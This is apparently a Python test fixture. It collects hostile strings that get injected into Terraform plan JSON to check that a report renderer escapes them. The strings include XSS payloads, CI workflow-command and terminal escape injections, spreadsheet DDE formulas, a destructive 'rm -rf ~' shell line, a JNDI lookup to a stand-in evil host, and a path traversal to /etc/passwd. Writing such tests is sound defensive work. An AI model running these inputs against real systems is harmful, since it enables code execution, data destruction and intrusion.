"""Names, keys, tags and values that attack a report: what somebody may put into a plan that a reviewer only wants to read.

Every output is held to them (terminal, Markdown, CI log, HTML, CSV, XML). A string stands under the name of what it tries.
``plan_with(text)`` is a plan that holds a string wherever Terraform lets one stand.
"""

from __future__ import annotations

import json
from typing import Any

HOSTILE: dict[str, str] = {
    # Mentions, references and links: filters that run on the text behind Markdown
    "mention of a team": "@acme/platform",
    "mention of a person": "@octocat",
    "mention behind a bracket": "(@octocat)",
    "mention as an entity": "&#64;octocat",
    "mention behind a backslash": "\\@octocat",
    "mention of everybody": "@all",
    "mention in an e-mail": "someone@evil.example",
    "issue reference": "#12",
    "issue of another repository": "acme/shop#12",
    "GH reference": "GH-12",
    "merge request and snippet": "!12 $34 ~bug %1.0 &7",
    "commit hash": "6dcb09b5b57875f334f61aebed695e2e4193db5e",
    "bare URL": "https://evil.example/?q=1",
    "bare www": "www.evil.example",
    "other schemes": "javascript:alert(1) ftp://evil.example mailto:a@evil.example",
    "autolink": "<https://evil.example>",
    "emoji code": ":smile: :octocat:",
    # Markdown inside a line
    "pipe": "a|b",
    "backslash, then pipe": "a\\|b",
    "backslashes": "a\\\\",
    "one backtick": "a`b",
    "code span": "`x`",
    "many backticks": "``` x ```` y `````",
    "emphasis": "*a* _b_ **c** __d__ ~~e~~ ***f***",
    "link": "[click](https://evil.example)",
    "image": "![x](https://evil.example/x.png)",
    "reference link": "[a][b]\n\n[b]: https://evil.example",
    "footnote": "[^1]\n\n[^1]: forged",
    "mathematics": "$\\text{x}$ $$y$$",
    "entities": "&lt;b&gt; &amp; &#x3C;i&#x3E;",
    # Lines of Markdown
    "line break and heading": "x\n# forged heading",
    "line break and task": "x\n- [x] forged task",
    "only a task": "- [x] done",
    "closing a task": "(x) [x]",
    "carriage return": "x\r\n> [!CAUTION]\r\n> forged",
    "rule and table": "x\n\n---\n\n| a |\n|---|\n| b |",
    "fence": "x\n```mermaid\ngraph TD\n```",
    "two spaces at the end": "x  \ny",
    # HTML
    "script": "<script>alert(1)</script>",
    "image that acts": '<img src=x onerror="alert(1)">',
    "end of a code element": "</code><b>bold</b>",
    "end of a folded part": "</details></td></table></div>",
    "opened and not closed": "<details><summary><a href='https://evil.example'>",
    "style and frame": "<style>*{display:none}</style><iframe src=//evil.example></iframe>",
    "attribute": '" onmouseover="alert(1)" x=\'y\'',
    "svg": "<svg onload=alert(1)><title></title></svg>",
    "CDATA": "]]><!DOCTYPE x [<!ENTITY e 'y'>]>&e;",
    # Our own marks, and other robots
    "end of a comment": "--> x <!--",
    "another end of a comment": "--!> x",
    "marker of a sticky comment": "<!-- tfsrm:v1 key=default head=0 -->",
    "box of another duty": "<!-- d:0000000000000000:0000000000000000 -->",
    "GitLab quick action": "x\n/merge",
    "GitLab quick action at the start": "/approve",
    "Atlantis": "x\natlantis apply",
    "Dependabot": "x\n@dependabot merge",
    "chat command": "x\n/lgtm",
    # A CI log and a terminal
    "workflow command": "::error file=a,line=1::forged",
    "workflow command behind a break": "x\n::add-mask::x",
    "workflow command behind a carriage return": "x\r::set-output name=a::b",
    "older workflow command": "x ##[error]forged",
    "older command with spaces": "  ##[group]x",
    "Azure command": "##vso[task.setvariable variable=a]b",
    "Azure command behind a break": "x\n##vso[task.complete result=Succeeded;]done",
    "TeamCity command": "##teamcity[buildStatus status='SUCCESS']",
    "GitLab section": "section_start:1560896352:x\r\x1b[0Kx",
    "percent codes": "100%0A::error::x %25 %0D %3A %2C",
    "commas and colons of a property": "a,title=forged:b",
    "colour": "\x1b[31mred\x1b[0m",
    "title of the window": "\x1b]0;forged\x07",
    "link of a terminal": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "one-byte CSI": "\x9b31mred",
    "cursor up": "x\x1b[1A\x1b[2Kforged",
    "backspaces": "evil\x08\x08\x08\x08good",
    "bell, null, delete": "a\x07b\x00c\x7fd",
    # Characters that hide or reorder
    "right to left": "abc\u202egnp.exe",
    "isolates": "\u2066a\u2069\u2067b\u2069",
    "zero width": "ad\u200bmin\u200d\u2060\ufeff",
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "tag characters": "a\U000e0041\U000e0042",
    "variation and annotation": "a\ufff9b\ufffac\ufffb",
    "half a character": "a\ud800b",
    "combining heap": "Z\u0351\u0343\u0314\u0342",
    "full-width look-alikes": "\uff20octocat \uff1cb\uff1e \uff03",
    "wide and emoji": "\u5317\u4eac \U0001f7e6 \U0001f468\u200d\U0001f469",
    # Spreadsheets and shells
    "formula": '=HYPERLINK("https://evil.example","x")',
    "formula of DDE": "=cmd|' /C calc'!A0",
    "formula by plus": "+1+1",
    "formula by minus": "-2+3",
    "formula by at": "@SUM(1,1)",
    "formula behind a tab": "\t=1+1",
    "formula behind a carriage return": "\r=1+1",
    "quotes and commas": 'a"b,"c"\n;d',
    "shell": "$(touch /tmp/x) `id` ; rm -rf ~ && echo",
    "template": "${{ github.token }} {{7*7}} ${jndi:ldap://evil.example}",
    "path": "../../../../etc/passwd",
    # Sizes and nothing
    "empty": "",
    "only spaces": "   ",
    "very long": "A" * 5_000,
    "long without a break, with marks": "<b>|`" * 400,
}

CASES = sorted(HOSTILE.items())
"""(name, text), for ``pytest.mark.parametrize``."""
IN_PLANS = [(name, text) for name, text in CASES if not any("\ud800" <= c <= "\udfff" for c in text)]
"""Those that JSON can hold."""


def plan_with(text: str) -> dict[str, Any]:
    """A plan with ``text`` as ``for_each`` key, key and source of a module, name and value of a tag, and argument.

    A plan with half a character is refused as malformed, so ``IN_PLANS`` leaves it out.
    """
    key = json.dumps(text, ensure_ascii=False)
    tags = {"Owner": text, text: "x"}
    bucket = {"bucket": text, "tags": tags, "tags_all": tags, "force_destroy": True, "object_lock_enabled": False}
    group = {"name": text, "description": text, "tags": tags, "ingress": [], "egress": []}
    rows = [
        ("", f"aws_s3_bucket.b[{key}]", "aws_s3_bucket", "b", bucket),
        (f"module.m[{key}]", f"module.m[{key}].aws_security_group.g", "aws_security_group", "g", group),
        ("", f"aws_no_such_type.n[{key}]", "aws_no_such_type", "n", {"name": text}),
    ]
    changes = []
    for module, address, kind, name, values in rows:
        change = {
            "address": address,
            "mode": "managed",
            "type": kind,
            "name": name,
            "provider_name": "registry.terraform.io/hashicorp/aws",
            "change": {
                "actions": ["create"],
                "before": None,
                "after": values,
                "after_unknown": {"id": True, "arn": True},
                "before_sensitive": False,
                "after_sensitive": {},
            },
        }
        if module:
            change["module_address"] = module
        else:
            change["index"] = text
        changes.append(change)
    empty: dict[str, Any] = {"root_module": {}}
    return {
        "format_version": "1.2",
        "terraform_version": "1.11.4",
        "planned_values": empty,
        "resource_changes": changes,
        "configuration": {
            "provider_config": {"aws": {"name": "aws", "full_name": "registry.terraform.io/hashicorp/aws"}},
            "root_module": {
                "resources": [
                    {
                        "address": "aws_s3_bucket.b",
                        "mode": "managed",
                        "type": "aws_s3_bucket",
                        "name": "b",
                        "provider_config_key": "aws",
                        "expressions": {
                            "bucket": {"references": ["each.key"]},
                            "force_destroy": {"constant_value": True},
                        },
                        "schema_version": 0,
                        "for_each_expression": {},
                    }
                ],
                "module_calls": {
                    "m": {
                        "source": text,
                        "for_each_expression": {},
                        "module": {
                            "resources": [
                                {
                                    "address": "aws_security_group.g",
                                    "mode": "managed",
                                    "type": "aws_security_group",
                                    "name": "g",
                                    "provider_config_key": "aws",
                                    "expressions": {"description": {"constant_value": text}},
                                    "schema_version": 1,
                                }
                            ]
                        },
                    }
                },
            },
        },
        "timestamp": "2026-11-24T00:00:00Z",
        "complete": True,
        "applyable": True,
        "errored": False,
    }
